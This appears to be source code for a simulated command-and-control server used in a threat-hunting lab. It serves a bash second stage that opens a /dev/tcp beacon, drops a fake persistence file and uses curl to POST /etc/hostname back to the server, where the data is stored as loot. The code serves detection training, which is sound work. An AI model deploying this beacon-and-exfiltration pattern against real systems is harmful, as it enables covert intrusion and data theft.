// The attacker's command-and-control server of the demo scenario, the lab's second host ("c2server"): it listens on
// CNC_LISTEN (default 127.0.0.1; in the two-host lab its address on the lab's veth pair, inside its own namespaces).
// HTTP: GET /payload.sh serves the second stage (which calls back to CNC_HOST); POST /upload receives an exfiltrated
//       file: kept in CNC_WORK as loot-N, then fingerprinted and packed by a shell (sha256sum, gzip) — what the
//       second host did, for the hunt to find.
// TCP:  the beacon port answers one command ("sleep") to each connection, the C&C channel the payload opens.
// Prints one JSON line {"http":PORT,"beacon":PORT} on stdout when ready; exits on SIGTERM or stdin close.
import { spawn } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { createServer as createTcpServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const listenOn = process.env.CNC_LISTEN || '127.0.0.1';
const callBack = process.env.CNC_HOST || listenOn;
const work = process.env.CNC_WORK || join(tmpdir(), `peregrine-c2server-${process.pid}`);
mkdirSync(work, { recursive: true });

const payload = `#!/bin/bash
# second stage (demo): C&C beacon, dropped file, exfiltration — loopback only, nothing destructive
work="\${PEREGRINE_WORK:-/tmp}"
exec 3<>/dev/tcp/__HOST__/__BEACON__ && { echo "hello from $(hostname)" >&3; read -t 2 -r cmd <&3; exec 3>&-; }
echo "persist $(date +%s)" > "$work/.cache-updater"
curl -s -X POST --data-binary @/etc/hostname "http://__HOST__:__HTTP__/upload" >/dev/null
`;

let uploads = 0;
const http = createServer((req, res) => {
  if (req.method === 'GET' && req.url === '/payload.sh') {
    res.writeHead(200, { 'content-type': 'text/x-shellscript' });
    res.end(
      payload
        .replaceAll('__BEACON__', String(beaconPort))
        .replaceAll('__HTTP__', String(httpPort))
        .replaceAll('__HOST__', callBack),
    );
    return;
  }
  if (req.method === 'POST' && req.url === '/upload') {
    const chunks = [];
    req.on('data', (d) => chunks.push(d));
    req.on('end', () => {
      uploads++;
      const loot = join(work, `loot-${uploads}`);
      writeFileSync(loot, Buffer.concat(chunks));
      const sh = spawn('sh', ['-c', 'sha256sum "$1" > "$1.sha256" && gzip -f "$1"', 'sh', loot], { stdio: 'ignore' });
      sh.on('close', () => res.end('ok\n'));
    });
    return;
  }
  res.writeHead(404).end();
});
const beacon = createTcpServer((sock) => {
  sock.once('data', () => sock.end('sleep\n'));
  sock.on('error', () => {});
});

let httpPort = 0;
let beaconPort = 0;
await new Promise((r) => http.listen(0, listenOn, r));
await new Promise((r) => beacon.listen(0, listenOn, r));
httpPort = http.address().port;
beaconPort = beacon.address().port;
process.stdout.write(JSON.stringify({ http: httpPort, beacon: beaconPort }) + '\n');

const stop = () => {
  process.stderr.write(`cnc: ${uploads} upload(s) received\n`);
  http.close();
  beacon.close();
  process.exit(0);
};
process.on('SIGTERM', stop);
process.on('SIGINT', stop);
process.stdin.on('end', stop);
process.stdin.resume();
